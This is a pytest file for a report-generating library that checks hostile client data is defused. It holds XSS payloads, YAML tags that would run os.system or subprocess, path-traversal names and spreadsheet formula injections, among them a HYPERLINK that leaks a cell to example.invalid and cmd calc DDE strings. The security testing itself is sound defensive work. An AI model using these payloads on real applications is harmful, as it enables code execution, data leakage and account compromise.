"""Hostile input: XSS payloads in every free-text field, unsafe YAML, path tricks in names and parameters.

The report of a client whose every free-text field holds script payloads is opened in headless
Chromium with the network blocked: nothing runs (no dialog, no console error, no injected element)
and the payloads read as text. Names and report parameters are refused before any file is touched
and before papermill starts.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
from pathlib import Path

import pytest
import yaml

from conftest import FIXTURES
from impactlib import assess, cli, load_client
from impactlib.run import report
from impactlib.model import schema as s
from impactlib.errors import InvalidInput, ReportError
from impactlib.io.load import check_name

PAYLOADS = ['<script>alert("xss1")</script>', "<img src=x onerror=alert(2)>", '<a href="javascript:alert(3)">click</a>',
            "<svg onload=alert(4)>", "&lt;b&gt;entity&lt;/b&gt; &amp; &#60;i&#62;", "'\"><script>alert(5)</script>",
            "</script><script>alert(6)</script>", '<iframe src="javascript:alert(7)"></iframe>', "${alert(8)} {{7*7}}"]
ALL = " ".join(PAYLOADS)
SHORT = "<b>u</b>&amp;"  # for keys limited to 40 characters
# free text the loader does not parse further (version and CPU model strings are matched against the catalog)
NOT_FREE = {"version", "os_version", "cpu_model"}
YAML_TEXT = {"name", "provider", "reason", "title", "summary", "author_role", "text", "criterion", "notes", "description"}


def free_text_columns(model) -> list[str]:
    """CSV columns of plain text: no pattern, no allowed values, no id list."""
    cols = model.to_schema().columns
    return [c for c, col in cols.items() if str(col.dtype).startswith("str") and not col.checks
            and (col.metadata or {}).get("list_of", "absent") == "absent" and c not in NOT_FREE]


def _poison_yaml(node, key=None):
    if isinstance(node, dict):
        return {k: _poison_yaml(v, k) for k, v in node.items()}
    if isinstance(node, list):
        return [_poison_yaml(v, key) for v in node]
    if isinstance(node, str) and key in YAML_TEXT:
        return ALL
    if isinstance(node, str) and key == "unit":
        return SHORT
    if isinstance(node, str) and key == "other":
        return ALL
    return node


def poison(folder: Path) -> int:
    """Put every payload in every free-text cell and key of a client folder; return how many were set."""
    n = 0
    for name, (model, _) in s.CLIENT_TABLES.items():
        path = folder / name
        if not path.is_file():
            continue
        rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
        cols = [c for c in free_text_columns(model) if rows and c in rows[0]]
        for r in rows:
            for c in cols:
                # names differ from decided_by, which must never be a person's name
                r[c] = f"{c}: {ALL}" if name == "staff.csv" and c in s.SENSITIVE_COLUMNS else ALL
                n += 1
        buf = io.StringIO()
        w = csv.DictWriter(buf, fieldnames=list(rows[0]) if rows else [], lineterminator="\n")
        w.writeheader()
        w.writerows(rows)
        path.write_text(buf.getvalue(), encoding="utf-8")
    for path in [folder / "client.yaml", folder / "spec.yaml", *sorted((folder / "scenarios").glob("*.yaml"))]:
        doc = yaml.safe_load(path.read_text(encoding="utf-8"))
        poisoned = _poison_yaml(doc)
        n += str(poisoned).count("alert(2)")
        doc = poisoned
        if path.name == "spec.yaml":
            doc.setdefault("constraints", {})["other"] = [ALL]
            doc.setdefault("means", {})["other"] = [ALL]
        path.write_text(yaml.safe_dump(doc, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return n


@pytest.fixture
def hostile(tmp_path) -> Path:
    dest = tmp_path / "clients" / "tiny"
    shutil.copytree(FIXTURES / "tiny", dest)
    assert poison(dest) > 30
    return dest


def test_hostile_client_loads_with_payloads_kept_as_data(hostile):
    c = load_client(hostile)
    assert c.profile.name == ALL and set(c.departments["name"]) == {ALL}
    assert c.spec.changes[0].title == ALL and (c.acknowledgements["comment"].dropna() == ALL).all()


@pytest.mark.e2e
@pytest.mark.browser
@pytest.mark.parametrize("kind", ["report", "comparison"])
def test_hostile_report_executes_nothing_and_shows_the_text(hostile, tmp_path, browser, kind):
    if kind == "report":
        done, charts = report.run(hostile, None, "en", tmp_path / "out"), 10
    else:
        done, charts = report.run_comparison(hostile, ["baseline", "later"], "en", tmp_path / "out"), 1
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    dialogs, errors, requests = [], [], []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
    page.on("pageerror", lambda e: errors.append(str(e)))
    page.route("**/*", lambda r: r.continue_() if r.request.url.startswith("file:") else (requests.append(r.request.url), r.abort()))
    page.goto(done.html.as_uri())
    page.wait_for_function(f"document.querySelectorAll('.plotly-graph-div .main-svg').length >= {charts}", timeout=30000)
    page.mouse.move(400, 400)
    page.wait_for_timeout(500)
    assert dialogs == [] and errors == [] and requests == []
    injected = page.evaluate(r"""() => ({
        scripts: [...document.scripts].filter(s => /^\s*alert\(/.test(s.textContent)).length,  // a payload that became a script
        handlers: document.querySelectorAll('[onerror],[onload],[onclick],[onmouseover]').length,
        js_links: [...document.querySelectorAll('a[href],iframe[src],[*|href]')].filter(
            e => /javascript:/i.test(e.getAttribute('href') || e.getAttribute('src') || e.getAttribute('xlink:href') || '')).length,
        frames: document.querySelectorAll('iframe').length,
        imgs: document.querySelectorAll('img[src="x"]').length,
    })""")
    assert injected == {"scripts": 0, "handlers": 0, "js_links": 0, "frames": 0, "imgs": 0}
    text = page.inner_text("body")
    for p in PAYLOADS:  # read as typed, in the cover, tables and lists
        assert p in text, p
    if kind == "report":
        assert page.locator("section.cover .client-name").inner_text() == ALL
    # text.esc leaves the apostrophe as typed: safe only while every attribute of the page is double-quoted
    assert single_quoted_attributes(done.html.read_text(encoding="utf-8")) == []
    # chart labels too: plotly would otherwise read <a href>, <b> and entities as markup
    labels = page.evaluate("() => [...document.querySelectorAll('.plotly-graph-div svg text')].map(e => e.textContent)"
                           ".filter(t => t.includes('onerror'))")
    # a long label is wrapped on several lines (its spaces become line breaks): compared without spaces
    assert (len(labels) >= 5 or kind == "comparison") and all(ALL.replace(" ", "") in label.replace(" ", "") for label in labels), labels[:3]
    page.close()


def single_quoted_attributes(page: str) -> list[str]:
    """The start tags of ``page`` with an attribute value in single quotes (or unquoted and holding one)."""
    from html.parser import HTMLParser

    found = []

    class Tags(HTMLParser):
        def handle_starttag(self, tag, attrs):
            raw = self.get_starttag_text() or ""
            if re.search(r"""\s[^\s"'>/=]+\s*=\s*(?:'|[^\s"'>]*')""", raw):
                found.append(raw)

    Tags(convert_charrefs=True).feed(page)
    return found


def test_single_quoted_attribute_detector_finds_them():
    assert single_quoted_attributes("<p class='x'>a</p><p title=a'b>c</p>") == ["<p class='x'>", "<p title=a'b>"]
    assert single_quoted_attributes('<meta content="default-src \'none\'"><p title="l\'été">l\'été</p>') == []


def test_esc_keeps_the_apostrophe_and_quotes_the_rest():
    from impactlib.report.text import esc

    assert esc("l'été <b>\"x\"</b> & co") == "l'été &lt;b&gt;&quot;x&quot;&lt;/b&gt; &amp; co"
    assert esc(None) == "" and esc(3) == "3"


# --- YAML --------------------------------------------------------------------------------------

@pytest.mark.parametrize("payload", [
    "!!python/object/apply:os.system ['touch {marker}']",
    "!!python/object/new:os.system ['touch {marker}']",
    "name: !!python/name:os.system\n",
    "id: tiny\nname: !!python/module:os\n",
    "id: tiny\nname: !!python/object:subprocess.Popen {{args: [touch, {marker}]}}\n",
])
def test_yaml_is_loaded_safely_only(tiny, tmp_path, payload):
    marker = tmp_path / "pwned"
    (tiny / "client.yaml").write_text(payload.format(marker=marker), encoding="utf-8")
    with pytest.raises(InvalidInput) as e:
        load_client(tiny)
    assert not marker.exists()
    assert "tiny/client.yaml" in str(e.value)
    assert "tiny/client.yaml: is not valid YAML: line" in str(e.value)
    assert "could not determine a constructor for the tag 'tag:yaml.org,2002:python/" in str(e.value)


# --- names and parameters ----------------------------------------------------------------------

BAD_NAMES = ["..", "../tiny", "a/b", "/etc", "/etc/passwd", "C:\\x", "tiny\x00", "tiny\n", "ti\x1bny", "tіny",  # Cyrillic і
             "tiny\u200b", "ｔｉｎｙ", "TINY", "-tiny", "t", "x" * 64, "", " tiny", "tiny.", "~root", "%2e%2e"]


@pytest.mark.parametrize("bad", BAD_NAMES, ids=repr)
def test_check_name_refuses(bad):
    with pytest.raises(InvalidInput) as e:
        check_name(bad, "scenario name")
    assert "is not a valid scenario name" in str(e.value)
    assert all(c.isprintable() for c in str(e.value).replace("\n", ""))  # control characters are shown escaped


@pytest.fixture
def no_papermill(monkeypatch):
    """Fail the test if papermill is asked to run anything."""
    import papermill

    def refuse(*a, **kw):
        raise AssertionError("papermill started")

    monkeypatch.setattr(papermill, "execute_notebook", refuse)


@pytest.mark.parametrize("bad", BAD_NAMES, ids=repr)
def test_bad_client_id_refused_by_the_cli_before_any_file(bad, tmp_path, capsys, no_papermill, monkeypatch):
    touched = []
    real = Path.stat
    monkeypatch.setattr(Path, "stat", lambda self, **kw: (touched.append(self), real(self, **kw))[1])
    for command in (["validate", "--", bad], ["report", "--out", str(tmp_path / "out"), "--", bad]):
        assert cli.main(["--data-dir", str(FIXTURES), *command]) == 2
        assert "is not a valid client id" in capsys.readouterr().err
    assert touched == [] and not (tmp_path / "out").exists()


@pytest.mark.parametrize("option, bad", [("--scenario", n) for n in BAD_NAMES if n] + [
    ("--lang", "de"), ("--lang", "../fr"), ("--lang", "en\x00"), ("--lang", "EN"), ("--lang", "fr/../../x"), ("--lang", "ｅｎ")])
def test_bad_scenario_or_language_refused_before_papermill(option, bad, tmp_path, capsys, no_papermill):
    out = tmp_path / "out"
    assert cli.main(["--data-dir", str(FIXTURES), "report", "tiny", f"{option}={bad}", "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert "not produced" in err and "Traceback" not in err
    assert not out.exists()


@pytest.mark.parametrize("bad", [n for n in BAD_NAMES if n], ids=repr)
def test_bad_scenario_refused_by_compare_before_papermill(bad, tmp_path, capsys, no_papermill):
    out = tmp_path / "out"
    code = cli.main(["--data-dir", str(FIXTURES), "compare", "--lang=en", "--out", str(out), "--", "tiny", "baseline", bad])
    err = capsys.readouterr().err
    assert code == 2 and "not produced" in err and "Traceback" not in err
    assert not out.exists()


def test_scenario_name_is_checked_even_if_a_file_exists(tiny, tmp_path, no_papermill):
    """A scenario file whose stem is not a valid name is refused at load: it can never be asked for."""
    (tiny / "scenarios" / "Evil..yaml").write_text("title: x\n", encoding="utf-8")
    with pytest.raises(InvalidInput, match="not a valid scenario name"):
        report.run(tiny, "Evil.", "en", tmp_path)
    assert not (tmp_path / "tiny").exists()


@pytest.mark.parametrize("params, message", [
    ({"client": "tiny", "scenario": "baseline", "lang": "en", "data_dir": ".", "report_date": "2026-01-01", "cmd": "x"}, "unknown parameter 'cmd'"),
    ({"client": "tiny", "scenario": "baseline", "lang": ["en"], "data_dir": ".", "report_date": "2026-01-01"}, "parameter 'lang' must be str"),
])
def test_parameters_checked_before_papermill(params, message, no_papermill):
    with pytest.raises(ReportError, match=message):
        report.check_parameters(params)


def test_run_checks_parameters_before_papermill(tmp_path, monkeypatch, no_papermill):
    calls = []
    monkeypatch.setattr(report, "check_parameters", lambda p, t=None: (calls.append(p), (_ for _ in ()).throw(ReportError("refused")))[1])
    with pytest.raises(ReportError, match="refused"):
        report.run(FIXTURES / "tiny", None, "en", tmp_path / "out")
    assert calls and calls[0]["client"] == "tiny" and not (tmp_path / "out").exists()


# --- spreadsheet formulas ------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1"]


def poison_formulas(folder: Path) -> None:
    """Every free-text CSV cell and YAML text starts with a formula (a different one per row)."""
    for name, (model, _) in s.CLIENT_TABLES.items():
        path = folder / name
        if not path.is_file():
            continue
        rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
        for i, r in enumerate(rows):
            for c in free_text_columns(model):
                if c in r and c not in s.SENSITIVE_COLUMNS:
                    r[c] = f"{FORMULAS[i % len(FORMULAS)]} {c}{i}"
        buf = io.StringIO()
        w = csv.DictWriter(buf, fieldnames=list(rows[0]), lineterminator="\n")
        w.writeheader()
        w.writerows(rows)
        path.write_text(buf.getvalue(), encoding="utf-8")
    spec = yaml.safe_load((folder / "spec.yaml").read_text(encoding="utf-8"))
    for i, c in enumerate(spec["changes"]):
        c["title"] = f"{FORMULAS[i % len(FORMULAS)]} change{i}"
    (folder / "spec.yaml").write_text(yaml.safe_dump(spec, allow_unicode=True, sort_keys=False), encoding="utf-8")


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_exports_of_a_hostile_client_hold_no_formula(tiny, tmp_path, suffix):
    from openpyxl import load_workbook

    from impactlib.io.files import write_table
    from impactlib.report import exports

    ids = [f.id for f in assess(load_client(tiny)).findings]
    poison_formulas(tiny)
    (tiny / "acknowledgements.csv").write_text("finding_id,scenario,decision,decided_by,decided_on,comment\n" + "".join(
        f'{i},,accepted,"{FORMULAS[n % 5].replace(chr(34), 2 * chr(34))}","2026-10-20","{FORMULAS[(n + 1) % 5].replace(chr(34), 2 * chr(34))}"\n'
        for n, i in enumerate(ids)), encoding="utf-8")
    an = assess(load_client(tiny))
    cells = []
    for which, frames in (("findings", exports.findings_frames(an, "en")), ("training", exports.training_frames(an, "en"))):
        if suffix == ".csv":
            for i, (sheet, frame) in enumerate(frames.items()):
                path = write_table({sheet: frame}, tmp_path / f"{which}{i}.csv")
                cells += [cell for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))) for cell in row]
        else:
            path = write_table(frames, tmp_path / f"{which}.xlsx")
            wb = load_workbook(path)
            for ws in wb.worksheets:
                for row in ws.iter_rows():
                    for cell in row:
                        if isinstance(cell.value, str):
                            assert cell.data_type == "s", (cell.coordinate, cell.value)
                            cells.append(cell.value)
    starts = [x for x in cells if x[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert starts == []
    neutralised = {x[:2] for x in cells if x.startswith("'")}
    assert {"'=", "'+", "'-", "'@"} <= neutralised, neutralised  # the payloads did reach the sheets, defused
